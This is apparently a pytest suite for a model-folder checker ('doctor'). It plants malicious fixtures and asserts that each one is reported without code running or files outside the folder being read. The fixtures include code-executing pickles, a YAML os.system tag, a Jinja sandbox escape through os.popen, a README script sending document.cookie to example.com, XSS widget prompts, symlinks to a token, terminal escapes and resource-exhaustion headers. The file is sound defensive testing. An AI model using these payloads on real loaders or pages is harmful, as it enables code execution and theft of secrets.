"""Malicious folders: each attack is reported, executes nothing, reads nothing outside the folder and controls no terminal."""

import json
import os
import pickle
import re
from pathlib import Path

import pytest
import torch

from minigpt_hf import doctor
from minigpt_hf.cli import main
from tests.conftest import representative
from tests.doctor.conftest import Broken
from tests.doctor.test_planted_faults import weight_names

ATTACKS = {}
ESCAPE = "\x1b]0;owned\x07\x1b[2J"


def attack(*rows: str, reason: str):
    """Register a function that prepares a folder, the checks that fail for it, and a pattern of the first reason."""

    def register(function):
        ATTACKS[function.__name__] = (function, rows, reason)
        return function

    return register


class Touch:
    """Creates the canary when it is unpickled."""

    def __init__(self, canary: Path):
        self.canary = str(canary)

    def __reduce__(self):
        return Path.touch, (Path(self.canary),)


def touching(canary: Path) -> str:
    """Python code that creates the canary when it is imported."""
    return f"import pathlib\npathlib.Path({str(canary)!r}).touch()\n"


# -- pickles ----------------------------------------------------------------------------------------------------------


@attack(
    "no pickle", "files known", reason=r"pickles or archives: training_args\.bin; loading a pickle can execute code"
)
def a_pickle_beside_the_weights(folder: Broken):
    folder.write("training_args.bin", pickle.dumps(Touch(folder.canary)))


@attack("no pickle", "files complete", "files known", reason=r"pytorch_model\.bin")
def a_pickle_for_weights(folder: Broken):
    folder.delete("model.safetensors")
    torch.save({"model.norm.weight": Touch(folder.canary)}, folder.path / "pytorch_model.bin")


@attack("no pickle", "files known", reason=r"model\.pt")
def a_pickle_of_an_old_protocol(folder: Broken):
    folder.write("model.pt", pickle.dumps(Touch(folder.canary), protocol=0))


@attack("no pickle", reason=r"figures/loss\.png")
def a_pickle_named_like_an_image(folder: Broken):
    folder.write("figures/loss.png", pickle.dumps(Touch(folder.canary)))


@attack("no pickle", "weights header", reason=r"model\.safetensors")
def a_pickle_named_like_safetensors(folder: Broken):
    torch.save(Touch(folder.canary), folder.path / "model.safetensors")


# -- references to files outside the folder ----------------------------------------------------------------------------


@attack("auto_map", reason=r"is '.*outside/evil\.Model', not of the form module.Class")
def an_auto_map_with_an_absolute_path(folder: Broken):
    (folder.outside / "evil.py").write_text(touching(folder.canary))
    entries = folder.get("config.json")["auto_map"]
    folder.json("config.json", auto_map={**entries, "AutoConfig": f"{folder.outside}/evil.Model"})


@attack("auto_map", reason=r"is '\.\./outside/evil\.Model', not of the form module.Class")
def an_auto_map_to_the_parent_folder(folder: Broken):
    (folder.outside / "evil.py").write_text(touching(folder.canary))
    entries = folder.get("config.json")["auto_map"]
    folder.json("config.json", auto_map={**entries, "AutoModel": "../outside/evil.Model"})


@attack("auto_map", reason=r"is 'someone/else--modeling_minigpt\.MiniGPTModel', code of another repository")
def an_auto_map_to_another_repository(folder: Broken):
    entries = folder.get("config.json")["auto_map"]
    folder.json("config.json", auto_map={**entries, "AutoModel": "someone/else--modeling_minigpt.MiniGPTModel"})


@attack("auto_map", reason=r"tokenizer_config\.json: auto_map\.AutoTokenizer\[1\] is '\.\./outside/evil\.Tokenizer'")
def a_tokenizer_class_in_the_parent_folder(folder: Broken):
    (folder.outside / "evil.py").write_text(touching(folder.canary))
    folder.json("tokenizer_config.json", auto_map={"AutoTokenizer": [None, "../outside/evil.Tokenizer"]})


@attack("auto_map", reason=r"config\.json: custom_pipelines\.write is '\.\./outside/evil\.Pipeline'")
def a_pipeline_class_in_the_parent_folder(folder: Broken):
    folder.json("config.json", custom_pipelines={"write": {"impl": "../outside/evil.Pipeline", "pt": []}})


@attack(
    "weights index",
    "tensors",
    "weights recorded",
    reason=r"names files outside the folder: \.\./outside/model\.safetensors",
)
def an_index_with_a_path_to_the_parent_folder(folder: Broken):
    (folder.path / "model.safetensors").rename(folder.outside / "model.safetensors")
    folder.write(
        "model.safetensors.index.json",
        json.dumps({"weight_map": {"model.norm.weight": "../outside/model.safetensors"}}),
    )
    folder.write("model-00001-of-00001.safetensors", (8 + 2).to_bytes(8, "little") + b"{}        ")


@attack("weights index", reason=r"names files outside the folder: /.*/outside/model\.safetensors")
def an_index_with_an_absolute_path(folder: Broken):
    places = dict.fromkeys(weight_names(folder), "model.safetensors")
    places["model.norm.weight"] = str(folder.outside / "model.safetensors")
    folder.write("model.safetensors.index.json", json.dumps({"weight_map": places}))


@attack("no link", "files complete", reason=r"model\.safetensors is a link")
def weights_that_are_a_link(folder: Broken):
    (folder.path / "model.safetensors").rename(folder.outside / "model.safetensors")
    (folder.path / "model.safetensors").symlink_to(folder.outside / "model.safetensors")


@attack("no link", "files complete", reason=r"README\.md is a link")
def a_card_that_is_a_link_to_a_secret(folder: Broken):
    (folder.outside / "secret").write_text("hf_abcdefghijklmnopqrstuvwxyzABCDEFGH")
    folder.delete("README.md")
    (folder.path / "README.md").symlink_to(folder.outside / "secret")


@attack("no link", reason=r"\.eval_results is a link")
def a_folder_that_is_a_link(folder: Broken):
    (folder.outside / "results.yaml").write_text("secret: 1")
    (folder.path / ".eval_results").symlink_to(folder.outside, target_is_directory=True)


@attack("no link", reason=r"chat_template\.jinja is a device, a pipe or a socket")
def a_named_pipe_that_would_block_reading(folder: Broken):
    os.mkfifo(folder.path / "chat_template.jinja")


@attack("settings stay inside", "files known", reason=r"adapter_config\.json refers to the base model '.*outside'")
def an_adapter_with_an_external_base_model(folder: Broken):
    folder.write("adapter_config.json", json.dumps({"base_model_name_or_path": str(folder.outside)}))


@attack("settings stay inside", reason=r"tokenizer_config\.json: `vocab_file` is '.*outside/secret'")
def an_external_vocabulary(folder: Broken):
    folder.json("tokenizer_config.json", vocab_file=str(folder.outside / "secret"))


@attack("settings stay inside", reason=r"`fast_tokenizer_files` is '\.\./outside/tokenizer\.4\.0\.json'")
def an_external_tokenizer_for_a_release(folder: Broken):
    folder.json("tokenizer_config.json", fast_tokenizer_files=["../outside/tokenizer.4.0.json"])


@attack("settings stay inside", reason=r"config\.json: `transformers_weights` is '\.\./outside/model\.safetensors'")
def external_weights_of_another_name(folder: Broken):
    folder.json("config.json", transformers_weights="../outside/model.safetensors")


@attack("settings stay inside", reason="`attn_implementation` is 'someone/kernel', which is not part of transformers")
def an_external_attention_kernel(folder: Broken):
    folder.json("config.json", attn_implementation="someone/kernel")


# -- resource exhaustion ----------------------------------------------------------------------------------------------


def weights_of(header: bytes, values: int = 64) -> bytes:
    return len(header).to_bytes(8, "little") + header + b"\0" * values


@attack("weights header", reason=r"has a header of 9,223,372,036,854,775,808 bytes")
def a_header_length_beyond_the_file(folder: Broken):
    folder.write("model.safetensors", (1 << 63).to_bytes(8, "little") + b"{}" * 40)


@attack("weights header", reason=r"the header is not valid JSON: maximum recursion depth")
def a_deeply_nested_header(folder: Broken):
    folder.write("model.safetensors", weights_of(b'{"a":' * 200_000 + b"1" + b"}" * 200_000))


@attack("weights header", reason=r"has shape \[1099511627776, 1048576\] and dtype F32 in 64 bytes")
def a_tensor_larger_than_the_memory(folder: Broken):
    header = {"model.norm.weight": {"dtype": "F32", "shape": [1 << 40, 1 << 20], "data_offsets": [0, 64]}}
    folder.write("model.safetensors", weights_of(json.dumps(header).encode()))


@attack("weights header", reason="b does not start at the end of the previous tensor")
def overlapping_tensors(folder: Broken):
    header = {name: {"dtype": "F32", "shape": [16], "data_offsets": [0, 64]} for name in "ab"}
    folder.write("model.safetensors", weights_of(json.dumps(header).encode()))


@attack("weights header", reason="duplicate key 'a'")
def a_duplicate_tensor_name(folder: Broken):
    one = b'"a":{"dtype":"F32","shape":[16],"data_offsets":[0,64]}'
    folder.write("model.safetensors", weights_of(b"{" + one + b"," + one + b"}"))


@attack("files readable", reason=r"config\.json is not valid JSON: maximum recursion depth")
def a_deeply_nested_config(folder: Broken):
    folder.write("config.json", '{"a":' * 200_000 + "1" + "}" * 200_000)


@attack("config", "recipe", reason="`num_hidden_layers` is 1000000000000")
def a_config_with_a_trillion_layers(folder: Broken):
    folder.json("config.json", num_hidden_layers=10**12)


@attack("tokenizer", reason="pads every text to 1,099,511,627,776 tokens")
def a_tokenizer_with_padding_larger_than_the_memory(folder: Broken):
    padding = {"strategy": {"Fixed": 1 << 40}, "direction": "Left", "pad_to_multiple_of": None}
    folder.json("tokenizer.json", padding={**padding, "pad_id": 1, "pad_type_id": 0, "pad_token": "<|pad|>"})


# -- displayed content: cards, prompts, names -------------------------------------------------------------------------


@attack("file names", "files known", reason=re.escape(r"\x1b]0;owned\x07\x1b[2J.md"))
def a_file_name_with_terminal_escape_sequences(folder: Broken):
    folder.write(f"{ESCAPE}.md", "text")


@attack("tensors", "weights recorded", reason=re.escape(r"unexpected: \x1b]0;owned\x07\x1b[2J"))
def a_tensor_name_with_terminal_escape_sequences(folder: Broken):
    folder.tensors(lambda tensors: tensors.update({ESCAPE: torch.zeros(1)}))


@attack("config", reason=re.escape(r"`architectures` is '\x1b]0;owned\x07\x1b[2J'"))
def an_architecture_with_terminal_escape_sequences(folder: Broken):
    folder.json("config.json", architectures=[ESCAPE])


@attack("card inert", reason="README.md has active markup: <script")
def a_script_in_the_card(folder: Broken):
    folder.append("README.md", "\n<script>fetch('https://example.com/' + document.cookie)</script>\n")


@attack("card inert", reason="README.md has active markup: javascript:")
def a_javascript_link(folder: Broken):
    folder.append("README.md", "\n[the paper](javascript:alert(1))\n")


@attack("card inert", reason="README.md has active markup: <iframe")
def markup_after_a_code_fence(folder: Broken):
    folder.append("README.md", "\n```text\na sample\n```\n<iframe src=https://example.com></iframe>\n```text\n```\n")


@attack("card inert", reason=re.escape(r"README.md has control characters: '\x1b'"))
def a_card_with_terminal_escape_sequences(folder: Broken):
    folder.append("README.md", f"\n```text\n{ESCAPE}\n```\n")


@attack("card", reason="could not determine a constructor for the tag")
def a_card_with_a_yaml_tag_that_executes_code(folder: Broken):
    program = f"!!python/object/apply:os.system ['touch {folder.canary}']"
    folder.replace("README.md", "library_name:", f"danger: {program}\nlibrary_name:")


@attack("card", reason=r"`license` holds \[\[\[.*\[\.\.\.\]")
def a_card_with_exponentially_expanding_yaml_aliases(folder: Broken):
    aliases = "a0: &a0 [ha, ha]\n" + "".join(f"a{i}: &a{i} [{', '.join([f'*a{i - 1}'] * 9)}]\n" for i in range(1, 30))
    folder.replace("README.md", "library_name:", f"{aliases}license: *a29\nwidget:\n- text: *a29\nlibrary_name:")


@attack("card filled in", reason="TODO")
def a_card_that_could_cause_catastrophic_backtracking(folder: Broken):
    marks = ("`` ", "{{", "<your ", "<a on", "| ", "-")
    folder.append("README.md", "\n" + "".join(mark * 9_000 for mark in marks) + " TODO\n")


@attack("files readable", reason=r"README\.md has more than 262,144 bytes")
def a_card_beyond_the_size_limit(folder: Broken):
    folder.append("README.md", " " * 300_000)


@attack("code", reason=r"configuration_minigpt\.py: transformers parses one of its lines as an import of `\.x`")
def code_with_half_a_million_empty_lines(folder: Broken):
    folder.append("configuration_minigpt.py", "\n" * 500_000 + '"""\nfrom .x import y\n"""\n')


@attack("prompts inert", reason=r"README\.md: a prompt has '<img src=x onerror=")
def markup_in_the_prompt_of_the_widget(folder: Broken):
    widget = "widget:\n- text: '<img src=x onerror=\"alert(1)\">'\n"
    folder.replace("README.md", "widget:\n", widget)


@attack("prompts inert", reason=r"README\.md: a prompt has '<script'")
def markup_in_a_message_of_the_widget(folder: Broken):
    widget = "widget:\n- messages:\n  - {role: system, content: <script>}\n  - {role: user, content: Hello}\n"
    folder.replace("README.md", "widget:\n", widget)


@attack("prompts inert", reason=re.escape(r"minigpt.json: a prompt has '\x1b'"))
def a_prompt_with_terminal_escape_sequences(folder: Broken):
    folder.json("minigpt.json", sample={"prompt": ESCAPE, "text": ""})


@attack("chat template", reason=r"chat_template\.jinja accesses __(init|globals)__")
def a_chat_template_that_escapes_its_sandbox(folder: Broken):
    command = f"touch {folder.canary}"
    folder.write("chat_template.jinja", f"{{{{ cycler.__init__.__globals__.os.popen({command!r}).read() }}}}")


@attack("chat template", reason="reads another file")
def a_chat_template_that_includes_a_file(folder: Broken):
    folder.write("chat_template.jinja", f"{{% include {str(folder.outside / 'secret')!r} %}}")


@attack("code", reason=r"configuration_minigpt\.py.*changes the direction of text \(\\u202e\)")
def code_with_bidirectional_control_characters(folder: Broken):
    folder.append("configuration_minigpt.py", "\n# \u202e )(tixe\n")


# -- every attack -----------------------------------------------------------------------------------------------------


# Of the attacks that the same checks report, `make test` includes the first one.
FIRST = {rows: name for name, (_, rows, _) in reversed(ATTACKS.items())}.values()


@pytest.mark.parametrize("name", representative(ATTACKS, *FIRST))
def test_an_attack_is_reported_and_nothing_is_executed_or_read_outside(name, broken, watch):
    prepare, expected, reason = ATTACKS[name]
    prepare(broken)
    prevents_loading = set(expected) & set(doctor.BEFORE_LOADING)
    watch.opened = []
    # If a check fails that prevents loading, run all checks, with trusted code.
    found = (
        doctor.examine(broken.path, trust_remote_code=True) if prevents_loading else doctor.examine_files(broken.path)
    )
    opened, watch.opened = watch.opened, None
    failed = doctor.failures(found)
    assert sorted(row.name for row in failed) == sorted(expected), failed
    row = next(row for row in failed if row.name == expected[0])
    assert re.search(reason, row.reason), row.reason
    assert not broken.canary.exists()
    assert [path for path in opened if str(broken.outside) in path] == []
    assert any(str(broken.path) in path for path in opened)
    assert "hf_abc" not in str(found)
    if prevents_loading:
        states = {row.name: row.state for row in found}
        assert {states[loading] for loading in (*doctor.LOADS, doctor.OWN_CODE, *doctor.BEHAVIOUR)} == {
            "not applicable"
        }
    assert not re.search("[\x00-\x1f\x7f-\x9f\u202a-\u202e]", "".join(row.reason + row.remedy for row in found))


def test_at_least_fifteen_attacks_are_tested():
    assert len(ATTACKS) >= 15


def test_control_characters_in_the_table_are_escaped(broken, capsys):
    folder = broken
    a_file_name_with_terminal_escape_sequences(folder)
    weights_that_are_a_link(folder)  # prevents loading
    assert main(["doctor", str(folder.path)]) == 1
    out = capsys.readouterr().out
    assert "\x1b" not in out
    assert re.search(r"^fail  file names .*\\x1b\]0;owned.*; delete or rename these files$", out, re.MULTILINE)
    assert re.search(r"^\d+ pass, 4 fail, \d+ not applicable \(-\)$", out, re.MULTILINE)
    assert main(["doctor", str(folder.path), "--json"]) == 1
    report = json.loads(capsys.readouterr().out)
    assert report["failed"] == 4
    assert "\x1b" not in str(report)
